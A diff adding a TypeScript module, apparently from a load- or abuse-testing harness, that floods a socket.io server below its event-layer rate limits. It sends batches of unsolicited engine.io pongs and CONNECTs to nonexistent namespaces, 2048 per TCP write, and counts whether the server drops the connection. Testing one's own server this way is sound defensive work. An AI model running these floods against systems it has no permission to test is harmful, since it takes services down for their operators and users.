@@ -1,0 +1,40 @@
+/**
+ * Floods below the event layer, where the event rate limits never look: engine.io pongs, and
+ * socket.io CONNECTs to namespaces that do not exist, thousands to a TCP write.
+ */
+import { type Attack, type AttackTally, count, repeatFor, sleep } from './attack.js';
+import { connectFrame, connectOutcome, openEngine } from './engine-socket.js';
+import { clientFrame } from './raw-tcp.js';
+
+function packetFlood(kind: string, frame: (i: number) => string): Attack {
+  return async (target, durationMs) => {
+    const tally: AttackTally = {};
+    const batch = Buffer.concat(Array.from({ length: 2048 }, (_, i) => clientFrame(frame(i))));
+    const endAt = performance.now() + durationMs;
+    await repeatFor(durationMs, 2, async () => {
+      const raw = await openEngine(target);
+      if (!raw) return sleep(100);
+      raw.sendTexts([connectFrame()]);
+      count(tally, `join-${await connectOutcome(raw)}`);
+      raw.socket.removeAllListeners('data');
+      raw.socket.resume();
+      while (performance.now() < endAt && raw.endedBy === 'open') {
+        count(tally, `${kind}-batches`);
+        if (!raw.socket.write(batch))
+          await Promise.race([
+            new Promise((resolve) => raw.socket.once('drain', resolve)),
+            sleep(Math.max(0, endAt - performance.now())),
+          ]);
+      }
+      count(tally, raw.endedBy === 'open' ? 'still-open' : 'closed-by-server');
+      raw.destroy();
+    });
+    return tally;
+  };
+}
+
+/** engine.io pongs nobody asked for. */
+export const pongFlood = packetFlood('pong', () => '3');
+
+/** CONNECTs to namespaces the server does not have, each answered with an error. */
+export const namespaceFlood = packetFlood('connect', (i) => connectFrame(`/nowhere${i % 50}`));
